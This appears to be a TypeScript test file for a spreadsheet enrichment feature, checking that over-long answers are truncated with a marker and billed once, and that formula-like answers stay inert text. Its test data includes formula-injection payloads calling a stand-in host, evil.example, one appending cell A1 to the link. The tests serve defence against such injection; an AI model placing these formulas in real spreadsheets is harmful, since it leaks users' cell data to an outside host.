/** Answers that no cell can hold, and answers that would do something if they were typed. */

import { describe, expect, it } from 'vitest';
import { withTopics, worldKnowledge } from '../../doubles/linkup';
import { openWithLinkup, receipts } from '../../world/reading';
import { MENU, SAYS } from '../../world/says';
import type { World } from '../../world/world';

const CELL = 50_000;
const MARKER = ' … [cut: a cell holds 50,000 characters]';

/** Enriches one row whose only fact is the given text. */
async function answeredWith(text: string): Promise<{ world: World; billed: number }> {
  const topic = {
    name: 'Acme',
    facts: [{ key: 'slogan', value: text, sentence: text }],
    sources: [{ name: 'Acme', url: 'https://acme.example', content: text }],
    images: [],
  };
  const knowledge = withTopics(worldKnowledge(), [topic]);
  const { world, linkup } = await openWithLinkup([['Company'], ['Acme']], { knowledge });
  world.save({
    name: 'Slogan',
    shape: 'fields',
    template: 'The slogan of {{Company}}?',
    fields: [{ name: 'slogan', kind: 'text' }],
    sources: true,
  });
  world.press(MENU.all, 'YES');
  world.untilDone();
  return { world, billed: linkup.bill.entries.length };
}

describe('an answer longer than a cell', () => {
  it.each([
    ['of letters', 'x'.repeat(60_000)],
    ['of line breaks', 'a\r\n'.repeat(30_000)],
    ['of emoji, cut between two of them', `x${'🦊'.repeat(30_000)}`],
    ['that begins like a formula', `=IMPORTDATA("https://evil.example")${'x'.repeat(60_000)}`],
  ])('%s is cut with a visible marker and done', async (_, text) => {
    const { world, billed } = await answeredWith(text);
    const [shown = ''] = world.column('slogan');
    expect(world.column('Slogan status')).toEqual([SAYS.done]);
    expect(shown.length).toBeLessThanOrEqual(CELL);
    expect(shown.endsWith(MARKER)).toBe(true);
    expect(text.startsWith(shown.slice(0, -MARKER.length))).toBe(true);
    expect(billed).toBe(1);
  });

  it('is asked and billed once, and not again by a second press', async () => {
    const { world } = await answeredWith('x'.repeat(60_000));
    world.press(MENU.all, 'OK');
    expect(world.host.ui.dialogs.at(-1)?.message).toContain('answered already');
    expect(receipts(world)).toHaveLength(1);
  });
});

describe('an answer of exactly 50,000 characters', () => {
  it('is kept whole', async () => {
    const { world } = await answeredWith('y'.repeat(CELL));
    expect(world.column('slogan')).toEqual(['y'.repeat(CELL)]);
  });
});

describe('an answer that would be something else if it were typed', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"here")',
    '+1-555-0100',
    '-2+3',
    '@SUM(A1)',
    "'quoted",
    '1/2',
    '007',
    'TRUE',
    '1e5',
    '  spaced  ',
    '50%',
    'مرحبا 🇨🇭 שלום',
  ])('stays the text %s', async (text) => {
    const { world } = await answeredWith(text);
    const cell = world.sheet.peek(2, 2);
    expect(cell?.formula).toBeUndefined();
    expect(cell?.value).toBe(text);
    expect(world.column('Slogan status')).toEqual([SAYS.done]);
  });
});
